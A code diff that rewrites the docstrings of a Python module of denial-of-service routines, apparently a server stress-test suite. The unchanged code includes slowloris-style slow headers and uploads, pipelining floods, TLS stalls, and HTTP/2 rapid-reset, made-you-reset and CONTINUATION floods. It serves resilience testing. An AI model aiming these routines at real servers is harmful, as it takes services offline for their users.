@@ -107,7 +107,7 @@ START = PREFACE + h2_frame(SETTINGS, 0, 0)
 
 
 async def byte_a_second(attack: Attack) -> None:
-    """Senders of a byte of their head a second."""
+    """Send a byte of each head a second."""
 
     async def one() -> None:
         async with attack.connection() as (reader, writer):
@@ -122,24 +122,24 @@ async def byte_a_second(attack: Attack) -> None:
 
 
 async def never_read(attack: Attack) -> None:
-    """Clients that ask for a megabyte and read nothing of it."""
+    """Ask for a megabyte and read nothing of it."""
     await attack.many(lambda: attack.hold(b'GET /large/1000000 HTTP/1.1\r\nHost: test\r\n\r\n'))
 
 
 async def no_body(attack: Attack) -> None:
-    """Uploads that announce a body and never send it."""
+    """Announce a body and never send it."""
     head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 100000\r\n\r\n'
     await attack.many(lambda: attack.hold(head))
 
 
 async def pipeline(attack: Attack) -> None:
-    """Requests without end, whose responses are not read."""
+    """Send requests without end and read no response."""
     requests = b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n' * 500
     await attack.many(lambda: attack.flood(b'', requests, http2=False, read=False))
 
 
 async def connect_and_reset(attack: Attack) -> None:
-    """Connections that are reset as soon as they are there, half of them within a request."""
+    """Reset each connection as soon as it is made, every second one within a request."""
 
     async def one() -> None:
         reset = struct.pack('ii', 1, 0)
@@ -156,7 +156,7 @@ async def connect_and_reset(attack: Attack) -> None:
 
 
 async def stay(attack: Attack, data: bytes, http2: bool = False, tls: bool | None = None) -> None:
-    """Connections that send `data` and no more, opened again when they are closed."""
+    """Hold connections that send `data` and no more; open them again when they are closed."""
 
     async def one() -> None:
         context = client_context(http2) if (attack.tls if tls is None else tls) else None
@@ -174,37 +174,37 @@ async def stay(attack: Attack, data: bytes, http2: bool = False, tls: bool | Non
 
 
 async def silent(attack: Attack) -> None:
-    """Connections that say nothing, opened again when they are closed."""
+    """Hold connections that send nothing."""
     await stay(attack, b'', tls=False)
 
 
 async def half_head(attack: Attack) -> None:
-    """Connections that send half a head."""
+    """Send half a head."""
     await stay(attack, b'GET /quick/x HTTP/1.1\r\nHost: te')
 
 
 async def half_body(attack: Attack) -> None:
-    """Uploads whose second half never arrives."""
+    """Send half a body."""
     await stay(attack, b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 2000\r\n\r\n' + b'x' * 1000)
 
 
 async def kept_alive(attack: Attack) -> None:
-    """Connections that stay after one request."""
+    """Keep connections after one request."""
     await stay(attack, b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n')
 
 
 async def prefaces(attack: Attack) -> None:
-    """HTTP/2 connections without a request."""
+    """Open HTTP/2 connections and ask for nothing."""
     await stay(attack, START, http2=True)
 
 
 async def tls_stall(attack: Attack) -> None:
-    """Handshakes that stop after the first bytes of a ClientHello."""
+    """Stop after the first bytes of a ClientHello."""
     await stay(attack, b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', tls=False)
 
 
 async def drip_uploads(attack: Attack) -> None:
-    """Uploads of a megabyte that go on by a byte a second after the first 100,000 bytes."""
+    """Upload a megabyte: 100,000 bytes at once, then a byte a second."""
 
     async def one() -> None:
         async with attack.connection() as (reader, writer):
@@ -219,7 +219,7 @@ async def drip_uploads(attack: Attack) -> None:
 
 
 async def drip_downloads(attack: Attack) -> None:
-    """Readers of 20 MB that take a byte a second."""
+    """Read 20 MB, a byte a second."""
 
     async def one() -> None:
         sock = socket.socket()
@@ -256,19 +256,19 @@ async def by_stream(attack: Attack, make: Callable[[int], bytes], begin: bytes =
 
 
 async def rapid_reset(attack: Attack) -> None:
-    """Requests that are reset at once (CVE-2023-44487)."""
+    """Reset each request at once (CVE-2023-44487)."""
     reset = struct.pack('!I', 8)
     await by_stream(attack, lambda stream: request(stream) + h2_frame(RST_STREAM, 0, stream, reset))
 
 
 async def made_you_reset(attack: Attack) -> None:
-    """Requests that make the server reset them: a window update of nothing (CVE-2025-8671)."""
+    """Make the server reset each request: a window update of nothing (CVE-2025-8671)."""
     nothing = struct.pack('!I', 0)
     await by_stream(attack, lambda stream: request(stream) + h2_frame(WINDOW_UPDATE, 0, stream, nothing))
 
 
 async def continuation(attack: Attack) -> None:
-    """A header block that does not end."""
+    """Send a header block that does not end."""
     begin = START + request(1, flags=0)
     await attack.many(lambda: attack.flood(begin, h2_frame(CONTINUATION, 0, 1, b'\x00\x01a\x01b' * 20)))
 
@@ -282,7 +282,7 @@ async def settings(attack: Attack) -> None:
 
 
 async def windows(attack: Attack) -> None:
-    """Requests for a megabyte on connections with a window of nothing, opened by a byte at times."""
+    """Ask for a megabyte with a window of nothing, and open it by a byte at times."""
     begin = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 0))
     begin += b''.join(request(stream, '/large/1000000') for stream in range(1, 201, 2))
     byte = struct.pack('!I', 1)
@@ -328,7 +328,7 @@ async def websocket(attack: Attack, handshake: bytes, data: bytes, first: bytes 
 
 
 async def ws_fragments(attack: Attack) -> None:
-    """A message in fragments of one byte that does not end."""
+    """Send a message in fragments of one byte that does not end."""
     fragment = frame(b'a', b'abcd', 0x00)
     await websocket(attack, HANDSHAKE, fragment * 500, frame(b'a', b'abcd', 0x01))
 
